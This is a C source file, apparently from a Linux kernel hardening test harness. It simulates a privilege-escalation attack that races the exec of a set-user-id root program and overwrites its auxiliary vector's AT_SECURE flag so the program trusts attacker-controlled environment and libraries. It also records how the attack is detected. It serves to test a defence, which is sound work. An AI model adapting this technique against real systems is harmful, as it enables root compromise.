// SPDX-License-Identifier: GPL-2.0-only
static inline _Bool is_trusting(void);
#define OTHER_PROGRAM is_trusting()
#include "execution.h"
#include <linux/auxvec.h>

ATTACK("cred_integrity", "auxiliary_vector",
       "cred_integrity: the auxiliary vector of a program changed",
       "The attacker executes a program of root with the set-user-id bit, and writes to the new "
       "address space's auxiliary vector until it says that the program may trust its caller.",
       "When the vector has arrived in the program's memory, where nobody else writes, it is "
       "compared with sealed memory.",
       "Root's program believes what is in its environment, libraries to load as well.");

#define ROUNDS 2000 /* of */
#define POKES 16
#define SECURE_INDEX 15 /* of AT_SECURE in what the kernel writes */

static uint64_t auxiliary(uint64_t type)
{
	const long *at = program_stack + 1 + program_stack[0] + 1;

	while (*at++)
		;
	while (at[0] != AT_NULL && (uint64_t)at[0] != type)
		at += 2;
	return (uint64_t)at[1];
}

/* Root's program, started by the attacker: it lives on for a while. */
static inline _Bool is_trusting(void)
{
	sleep_milliseconds(30);
	return is_root() && auxiliary(AT_SECURE) == 0;
}

/* The kernel fills the vector in, copies all of this, then the vector: he has time. */
static void fill_environment(void)
{
	static char text[4096];

	for (unsigned int i = 0; i + 1 < sizeof(text); i++)
		text[i] = 'a';
	for (int i = 0; i < ENVIRONMENT_MAX; i++)
		environment[i] = text;
}

static bool control(void)
{
	return is_ordinary() && auxiliary(AT_UID) == ATTACKER_UID && auxiliary(AT_SECURE) == 0;
}

static uint64_t space;

static void held(uint64_t execution)
{
	space = peek(execution + member("execution.space"));
}

/* Until some time after the kernel has filled it in; the program lives on for longer. */
static void freed(void)
{
	const uint64_t type = space + member("address_space.auxv") + 8 * 2 * SECURE_INDEX;

	for (int i = 0; i < ROUNDS && peek(type) == 0; i++)
		for (int j = 0; j < POKES; j++)
			poke(type + 8, 0);
}

static bool fire(void)
{
	int status;

	fill_environment();
	do {
		status = execute_changed(SET_ID, held, freed);
		if ((status & 0x7f) == SIGKILL)
			call2(__NR_kill, call0(__NR_getpid), SIGKILL);
	} while (status >> 8 != 77);
	return true;
}

static void victim(void)
{
	make_set_id_program();
	victim_waits();
}
